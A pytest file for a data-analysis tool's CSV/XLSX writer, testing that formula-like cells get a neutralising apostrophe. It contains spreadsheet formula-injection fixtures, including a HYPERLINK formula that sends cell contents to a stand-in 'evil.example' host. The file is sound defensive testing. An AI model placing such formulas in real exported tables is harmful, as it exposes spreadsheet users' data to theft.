"""Tests of the shared table writer: formulas neutralised, real Excel, suffixes refused."""

from __future__ import annotations

from pathlib import Path

import pandas as pd
import pytest
from typer.testing import CliRunner

from analysis import exports, reports
from analysis.cli import app


def test_formula_like_cells_get_a_text_mark_and_numbers_do_not():
    frame = pd.DataFrame(
        {
            "name": ['=HYPERLINK("http://x")', "+33 1 23", "-cmd", "@SUM(A1)", "\tx", "\rx", "ok"],
            "longitude": ["-1.55", "+2", "1e-3", "-0,5", "", "3", "4"],
            "count": [1, 2, 3, 4, 5, 6, 7],
        }
    )
    safe = exports.neutralise_formulas(frame)
    assert safe["name"].tolist() == [
        "'=HYPERLINK(\"http://x\")", "'+33 1 23", "'-cmd", "'@SUM(A1)", "'\tx", "'\rx", "ok",
    ]  # fmt: skip
    assert safe["longitude"].tolist() == frame["longitude"].tolist()
    assert safe["count"].tolist() == frame["count"].tolist()
    assert frame["name"].iloc[0].startswith("=")  # the input is not changed


def test_write_table_writes_csv_and_real_xlsx(tmp_path):
    frame = pd.DataFrame({"name": ["=1+1", "Pôle"], "code": ["01004", "2A004"]})
    csv_path = exports.write_table(frame, tmp_path / "t.csv")
    assert pd.read_csv(csv_path, dtype=str)["name"].tolist() == ["'=1+1", "Pôle"]
    xlsx_path = exports.write_table(frame, tmp_path / "t.XLSX")
    assert xlsx_path.read_bytes()[:2] == b"PK"
    sheet = pd.read_excel(xlsx_path, dtype=str, engine="calamine")
    assert sheet["code"].tolist() == ["01004", "2A004"] and sheet["name"].iloc[0] == "'=1+1"


@pytest.mark.parametrize("name", ["t.txt", "t.xls", "t"])
def test_write_table_refuses_other_suffixes_and_writes_nothing(tmp_path, name):
    with pytest.raises(exports.ExportFormatError, match=r"\.csv or \.xlsx"):
        exports.write_table(pd.DataFrame({"a": [1]}), tmp_path / name)
    assert list(tmp_path.iterdir()) == []


# --------------------------------------------------------------------------- issue 15, case 3

FORMULA_NAMES = {
    "evil-link": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "evil-sum": "+1+2",
    "evil-at": "@SUM(A1)",
    "plain": "Pôle -2",
}


def _formula_registry(path: Path) -> Path:
    """A valid registry whose names a spreadsheet would run as formulas (Caen, 14; one row
    known only by its région, 28)."""
    rows = [
        {"initiative_id": key, "name": name, "commune_code": "14118"}
        for key, name in FORMULA_NAMES.items()
    ]
    rows.append({"initiative_id": "evil-unlocated", "name": "-2+3", "reg_code": "28"})
    frame = pd.DataFrame(rows).assign(kind="ptce", wave="w1", source_url="https://example.org")
    frame["lead_structure"] = ["-1 ok", "", "", "", ""]
    frame.to_csv(path, index=False)
    return path


def _names_written(csv_path: Path) -> dict[str, str]:
    table = pd.read_csv(csv_path, dtype=str, keep_default_na=False)
    mine = table[table["initiative_id"].isin(list(FORMULA_NAMES))]
    return dict(zip(mine["initiative_id"], mine["name"], strict=True))


@pytest.mark.integration
@pytest.mark.slow
def test_case3_fiche_tables_neutralise_formulas_from_the_registry(
    tmp_path, backbone, indicators_built, cooperation_built
):
    registry_file = _formula_registry(tmp_path / "formulas.csv")
    out = tmp_path / "fiche"
    result = CliRunner().invoke(
        app,
        ["fiche", "--level", "dep", "--code", "14", "--no-pdf"]
        + ["--registry", str(registry_file), "--out", str(out)],
    )
    assert result.exit_code == 0, result.output
    written = out / "figures" / "initiatives.csv"
    names = _names_written(written)
    assert names == {
        key: ("'" + value if key != "plain" else value) for key, value in FORMULA_NAMES.items()
    }
    table = pd.read_csv(written, keep_default_na=False)
    mine = table[table["initiative_id"] == "evil-link"]
    assert mine["lead_structure"].tolist() == ["'-1 ok"]
    assert pd.api.types.is_float_dtype(table["longitude"])  # numbers stay numbers
    text = written.read_text(encoding="utf-8")
    assert '\n"=' not in text and ",=" not in text and ",+1+2" not in text


@pytest.mark.integration
@pytest.mark.slow
def test_case3_overview_tables_neutralise_formulas_from_the_registry(
    tmp_path, backbone, indicators_built, cooperation_built
):
    registry_file = _formula_registry(tmp_path / "formulas.csv")
    run = reports.ReportRun(
        "overview", "territorial_overview", {"level": "dep", "registry_path": str(registry_file)}
    )
    result = reports.run_batch([run], jobs=1, reports_dir=tmp_path / "rep")
    assert result.records[0]["status"] == "ok", result.records[0].get("error")
    unlocated = pd.read_csv(
        tmp_path / "rep" / "overview" / "figures" / "unlocated_initiatives.csv",
        dtype=str,
        keep_default_na=False,
    )
    assert unlocated.set_index("initiative_id").loc["evil-unlocated", "name"] == "'-2+3"
